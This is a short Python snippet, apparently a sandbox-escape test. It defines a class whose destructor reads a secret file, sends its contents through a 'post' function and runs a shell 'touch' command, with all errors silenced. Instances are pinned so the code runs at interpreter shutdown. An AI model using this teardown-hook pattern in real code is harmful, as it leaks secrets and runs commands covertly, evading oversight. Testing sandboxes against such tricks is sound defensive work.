class Last:
    def __init__(self): self.open, self.tell = open, post
    def __del__(self):
        try: self.tell(self.open(SECRET).read())
        except Exception: pass
        import builtins
        try: builtins.__import__("posix").system("touch " + DIR + "/del")
        except BaseException: pass
kept = Last()
import sys
sys.kept = Last()
kept.me = kept
